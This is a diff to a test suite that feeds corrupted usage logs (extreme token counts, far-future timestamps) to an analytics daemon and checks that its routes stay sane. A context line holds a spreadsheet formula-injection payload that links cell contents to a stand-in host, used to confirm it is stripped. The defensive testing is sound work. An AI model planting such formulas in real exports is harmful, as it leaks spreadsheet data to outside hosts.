@@ -103,6 +103,7 @@ describe(
       for (const l of of(1)) l['message']['usage']['output_tokens'] = 1e308;
       for (const l of of(1)) l['message']['usage']['cache_read_input_tokens'] = 9.2e18;
       for (const l of of(2)) l['timestamp'] = '+275760-09-13T00:00:00.000Z';
+      lines[0]!['timestamp'] = '+275760-09-13T00:00:00.000Z';
       for (const l of of(3)) l['message']['usage']['cache_creation_input_tokens'] = -5e18;
       for (const l of of(4)) l['message']['model'] = '=HYPERLINK("http://x.example/?q="&A1,"open")';
       for (const l of of(5)) {
@@ -120,6 +121,12 @@ describe(
       assert.ok(report.body.clamped >= 7, `clamped ${report.body.clamped}`);
       await everyRouteSane(daemon, ids.length);
 
+      const sessions = (
+        await daemon.call('GET', `/api/sessions?origin=imported&subscription=${subscription}`)
+      ).body.items as { created_at: string; ended_at: string }[];
+      assert.equal(sessions.length, 1);
+      for (const at of [sessions[0]!.created_at, sessions[0]!.ended_at])
+        assert.ok(Date.parse(at) < Date.now() + 2 * 3_600_000, at);
       const models = (await daemon.call('GET', `/api/analytics/breakdown?${WIDE}&by=model`)).body;
       assert.ok(!JSON.stringify(models).includes('HYPERLINK'));
       const tools = (await daemon.call('GET', `/api/analytics/breakdown?${WIDE}&by=tool`)).body;
